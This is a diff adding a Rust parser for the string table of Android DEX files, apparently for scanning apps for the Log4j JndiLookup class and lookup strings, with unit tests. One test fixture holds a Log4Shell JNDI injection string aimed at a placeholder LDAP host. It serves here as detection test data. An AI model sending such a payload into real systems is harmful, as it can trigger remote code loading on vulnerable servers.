@@ -0,0 +1,104 @@
+const DEX_MAGIC: &[u8] = b"dex\n";
+const HEADER_SIZE: usize = 0x70;
+const STRING_IDS_SIZE_OFFSET: usize = 0x38;
+const STRING_IDS_OFF_OFFSET: usize = 0x3C;
+/// A string's length is a uleb128 of at most five bytes
+const MAX_ULEB128_BYTES: usize = 5;
+
+/// The strings of a Dalvik executable's string table, by index, as their
+/// MUTF-8 bytes. Only the header and the string table are read: class,
+/// method and field names and every string constant are in it, which is all
+/// a search for class descriptors and lookup strings needs.
+pub fn strings(data: &[u8]) -> Result<Vec<&[u8]>, String> {
+    if !data.starts_with(DEX_MAGIC) {
+        return Err("not a dex file".to_string());
+    }
+    if data.len() < HEADER_SIZE {
+        return Err("truncated dex header".to_string());
+    }
+    let count = read_u32(data, STRING_IDS_SIZE_OFFSET)? as usize;
+    let table = read_u32(data, STRING_IDS_OFF_OFFSET)? as usize;
+    if count.checked_mul(4).and_then(|size| size.checked_add(table)).is_none_or(|end| end > data.len()) {
+        return Err(format!("string table of {} strings at {} is past the end of the file", count, table));
+    }
+
+    (0..count)
+        .map(|index| {
+            let offset = read_u32(data, table + index * 4)? as usize;
+            string_data(data, offset).ok_or_else(|| format!("string {} at {} is past the end of the file", index, offset))
+        })
+        .collect()
+}
+
+fn read_u32(data: &[u8], offset: usize) -> Result<u32, String> {
+    data.get(offset..offset + 4)
+        .map(|bytes| u32::from_le_bytes([bytes[0], bytes[1], bytes[2], bytes[3]]))
+        .ok_or_else(|| format!("offset {} is past the end of the file", offset))
+}
+
+/// The bytes of the `string_data_item` at `offset`: a uleb128 length in
+/// UTF-16 units, which is skipped, then MUTF-8 bytes up to a NUL
+fn string_data(data: &[u8], offset: usize) -> Option<&[u8]> {
+    let item = data.get(offset..)?;
+    let length = item.iter().take(MAX_ULEB128_BYTES).position(|byte| byte & 0x80 == 0)? + 1;
+    let contents = &item[length..];
+    let end = memchr::memchr(0, contents)?;
+    Some(&contents[..end])
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    /// A dex file of just a header and the string table of `strings`
+    fn dex(strings: &[&str]) -> Vec<u8> {
+        let mut data = vec![0u8; HEADER_SIZE];
+        data[..8].copy_from_slice(b"dex\n035\0");
+        data[STRING_IDS_SIZE_OFFSET..STRING_IDS_SIZE_OFFSET + 4].copy_from_slice(&(strings.len() as u32).to_le_bytes());
+        data[STRING_IDS_OFF_OFFSET..STRING_IDS_OFF_OFFSET + 4].copy_from_slice(&(HEADER_SIZE as u32).to_le_bytes());
+        let mut items = Vec::new();
+        let items_start = HEADER_SIZE + strings.len() * 4;
+        for string in strings {
+            data.extend_from_slice(&((items_start + items.len()) as u32).to_le_bytes());
+            let mut length = string.len();
+            while length >= 0x80 {
+                items.push(length as u8 | 0x80);
+                length >>= 7;
+            }
+            items.push(length as u8);
+            items.extend_from_slice(string.as_bytes());
+            items.push(0);
+        }
+        data.extend(items);
+        data
+    }
+
+    #[test]
+    fn strings_are_read_by_index() {
+        let strings = ["", "Ljava/lang/Object;", "Lorg/apache/logging/log4j/core/lookup/JndiLookup;", "${jndi:ldap://example.com/a}"];
+        let data = dex(&strings);
+        assert_eq!(super::strings(&data).unwrap(), strings.map(str::as_bytes));
+    }
+
+    /// A length of several uleb128 bytes is skipped whole
+    #[test]
+    fn long_strings_are_read_whole() {
+        let long = "a".repeat(300);
+        let data = dex(&[&long]);
+        assert_eq!(super::strings(&data).unwrap(), [long.as_bytes()]);
+    }
+
+    #[test]
+    fn malformed_dex_files_are_errors() {
+        assert_eq!(super::strings(b"PK\x03\x04").unwrap_err(), "not a dex file");
+        assert_eq!(super::strings(b"dex\n035\0").unwrap_err(), "truncated dex header");
+
+        let mut past_the_end = dex(&["a"]);
+        past_the_end[STRING_IDS_SIZE_OFFSET] = 100;
+        assert!(super::strings(&past_the_end).unwrap_err().starts_with("string table of 100 strings"));
+
+        let mut unterminated = dex(&["abc"]);
+        unterminated.pop();
+        assert!(super::strings(&unterminated).unwrap_err().starts_with("string 0 at "));
+    }
+}